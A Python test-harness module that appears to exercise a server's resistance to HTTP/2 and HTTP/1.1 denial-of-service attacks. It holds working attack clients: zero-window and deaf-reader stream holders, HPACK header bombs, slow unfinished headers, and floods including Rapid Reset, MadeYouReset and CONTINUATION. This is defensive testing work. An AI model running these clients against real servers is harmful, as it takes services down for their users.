"""Clients that mean harm: each attack is a function that gets a Siege, opens wires on it and sends what it sends. What stays open
is held until the Siege is raised."""

import contextlib
import dataclasses
import socket
import threading
from collections.abc import Callable

from tests.harness.h2_client import (DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
                                     WINDOW_UPDATE)
from tests.harness.h2_frames import PREFACE, frame

PRIORITY, CONTINUATION, UNKNOWN = 2, 9, 0xee
INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = (1 << 31) - 1
ENHANCE_YOUR_CALM = 11

STREAMS = 1000
"""Of one connection of those attacks that need many."""
FLOOD = 400_000
"""Frames a flood sends if nothing ends it."""
_BATCH = 500  # frames in one send()


class Wire:
    """One raw connection. A thread reads what comes, unless it is `deaf`; `goaway` is the code of the last one (-1: none)."""

    def __init__(self, host, address: tuple[str, int], *, deaf: bool = False) -> None:
        with host.entered():
            self._socket = socket.socket()
            if deaf:
                self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            self._socket.settimeout(30)
            self._socket.connect(address)
        self.sent = 0
        self.goaway = -1
        self.ended = threading.Event()
        if not deaf:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data: bytes) -> bool:
        """False: the other side has ended it."""
        if self.ended.is_set():
            return False
        try:
            self._socket.sendall(data)
        except OSError:
            return False
        self.sent += len(data)
        return True

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _read(self) -> None:
        try:
            with self._socket.makefile("rb") as stream:
                while len(head := stream.read(9)) == 9:
                    payload = stream.read(int.from_bytes(head[:3], "big"))
                    if head[3] == GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
        except (OSError, ValueError):
            pass
        self.ended.set()


class Siege:
    """The wires of one attack on `address`. Closed at its end, whatever happens."""

    def __init__(self, host, address: tuple[str, int], path: str = "/large") -> None:
        self._host = host
        self._address = address
        self.path = path.encode()
        self.wires: list[Wire] = []

    def open(self, *, deaf: bool = False) -> Wire:
        self.wires.append(Wire(self._host, self._address, deaf=deaf))
        return self.wires[-1]

    def open_h2(self, window: int | None = None, *, deaf: bool = False) -> Wire:
        """With the preface sent; `window` is the SETTINGS_INITIAL_WINDOW_SIZE."""
        wire = self.open(deaf=deaf)
        settings = b"" if window is None else INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big")
        wire.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        return wire

    def get(self, fields: bytes = b"") -> bytes:
        """The field section of a GET of `path`; `fields` follow."""
        return b"\x82\x86\x04" + string(self.path) + b"\x01" + string(b"node2") + fields

    @property
    def sent(self) -> int:
        return sum(wire.sent for wire in self.wires)

    def goaways(self) -> list[int]:
        return [wire.goaway for wire in self.wires]

    def __enter__(self) -> "Siege":
        return self

    def __exit__(self, *_exception) -> None:
        for wire in self.wires:
            wire.close()


def integer(value: int, bits: int, flags: int = 0) -> bytes:
    """RFC 7541 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((flags | value,))
    out = bytearray((flags | most,))
    value -= most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def string(text: bytes) -> bytes:
    return integer(len(text), 7) + text


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    return (b"\x40" if indexed else b"\x00") + string(name) + string(value)


_NEWEST = b"\xbe"  # of the dynamic table


def _requests(siege: Siege, wire: Wire, count: int, section: Callable[[int], bytes], flags: int = END_STREAM) -> None:
    out = b""
    for i in range(count):
        out += frame(HEADERS, END_HEADERS | flags, 2 * i + 1, section(i))
        if i % 100 == 99:
            wire.send(out)
            out = b""
    wire.send(out)


def _flood(wire: Wire, next_frames: Callable[[int], bytes]) -> None:
    """Sends until it is ended."""
    for i in range(0, FLOOD, _BATCH):
        if not wire.send(b"".join(next_frames(n) for n in range(i, i + _BATCH))):
            break
    wire.ended.wait(10)


# What holds memory.

def zero_window(siege: Siege) -> None:
    _requests(siege, siege.open_h2(0), STREAMS, lambda _i: siege.get())


def zero_window_streams(siege: Siege) -> None:
    """The same as gRPC calls, which have no total timeout."""
    fields = literal(b"content-type", b"application/grpc")
    _requests(siege, siege.open_h2(0), STREAMS, lambda _i: siege.get(fields))


def closed_connection_window(siege: Siege) -> None:
    """Streams with all room there can be, on a connection that has the 64 KiB of its beginning."""
    _requests(siege, siege.open_h2(MAX_WINDOW), STREAMS, lambda _i: siege.get())


def deaf_h2(siege: Siege) -> None:
    """All windows are wide open, and nothing is read."""
    wire = siege.open_h2(MAX_WINDOW, deaf=True)
    wire.send(frame(WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65535).to_bytes(4, "big")))
    _requests(siege, wire, STREAMS, lambda _i: siege.get())


def deaf_h1(siege: Siege) -> None:
    for _ in range(100):
        siege.open(deaf=True).send(b"GET " + siege.path + b" HTTP/1.1\r\nHost: node2\r\n\r\n")


def _bomb(siege: Siege, wire: Wire, name: bytes, method: bytes = b"", flags: int = END_STREAM) -> None:
    """One field of 4,000 bytes, named over and over again. `method`: a field in the place of the one of siege.get()."""
    def section(i: int) -> bytes:
        if i == 0:
            return siege.get(literal(name, bytes(b"b" * 4000), indexed=True))
        usual = siege.get(_NEWEST * 15)
        return method + usual[len(method):]
    _requests(siege, wire, STREAMS, section, flags=flags)


def hpack_bomb(siege: Siege) -> None:
    """The window is closed, so that the requests last."""
    _bomb(siege, siege.open_h2(0), b"x-bomb")


def hpack_bomb_crumbs(siege: Siege) -> None:
    """The same of cookies, which are joined."""
    _bomb(siege, siege.open_h2(0), b"cookie")


def hpack_bomb_unanswered(siege: Siege) -> None:
    """Of POST requests whose body never comes."""
    _bomb(siege, siege.open_h2(), b"x-bomb", method=b"\x83", flags=0)


def slow_heads(siege: Siege) -> None:
    """Heads that do not end."""
    for _ in range(200):
        siege.open().send(b"GET " + siege.path + b" HTTP/1.1\r\nHost: node2\r\nX-Slow: " + b"s" * 200)


# Floods: their end is theirs to see.

def _flooder(kind: int, payload: bytes = b"", stream: int = 0) -> Callable[[Siege], None]:
    """With a request whose body never comes: 1."""
    def attack(siege: Siege) -> None:
        wire = siege.open_h2()
        wire.send(frame(HEADERS, END_HEADERS, 1, b"\x83" + siege.get()[1:]))
        one = frame(kind, 0, stream, payload)
        _flood(wire, lambda _n: one)
    return attack


def rapid_reset(siege: Siege) -> None:
    """CVE-2023-44487."""
    section = siege.get()
    _flood(siege.open_h2(), lambda n: (frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, section)
                                       + frame(RST_STREAM, 0, 2 * n + 1, (8).to_bytes(4, "big"))))


def made_you_reset(siege: Siege) -> None:
    """CVE-2025-8671: a whole request, and then a WINDOW_UPDATE beyond what a window may be, which is a stream error."""
    section = siege.get()
    _flood(siege.open_h2(), lambda n: (frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, section)
                                       + frame(WINDOW_UPDATE, 0, 2 * n + 1, MAX_WINDOW.to_bytes(4, "big"))))


def continuation_flood(siege: Siege) -> None:
    """CVE-2024-27316."""
    wire = siege.open_h2()
    wire.send(frame(HEADERS, END_STREAM, 1, siege.get()))
    one = frame(CONTINUATION, 0, 1, b"")
    _flood(wire, lambda _n: one)




@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[Siege], None]
    flood: bool = False
    """It is to be ended by GOAWAY ENHANCE_YOUR_CALM."""


HOLDERS = tuple(Attack(run.__name__, run) for run in (
    zero_window, zero_window_streams, closed_connection_window, deaf_h2, deaf_h1, hpack_bomb, hpack_bomb_crumbs,
    hpack_bomb_unanswered, slow_heads))
FLOODS = (
    *(Attack(run.__name__, run, flood=True) for run in (rapid_reset, made_you_reset, continuation_flood)),
    Attack("settings_flood", _flooder(SETTINGS), flood=True),
    Attack("ping_flood", _flooder(PING, bytes(8)), flood=True),
    Attack("goaway_flood", _flooder(GOAWAY, bytes(8)), flood=True),
    Attack("unknown_flood", _flooder(UNKNOWN), flood=True),
    Attack("window_update_flood", _flooder(WINDOW_UPDATE, (1).to_bytes(4, "big"), 1), flood=True),
    Attack("priority_flood", _flooder(PRIORITY, bytes((0, 0, 0, 0, 16)), 1), flood=True),
    Attack("empty_data_flood", _flooder(DATA, b"", 1), flood=True),
)
ATTACKS = (*HOLDERS, *FLOODS)
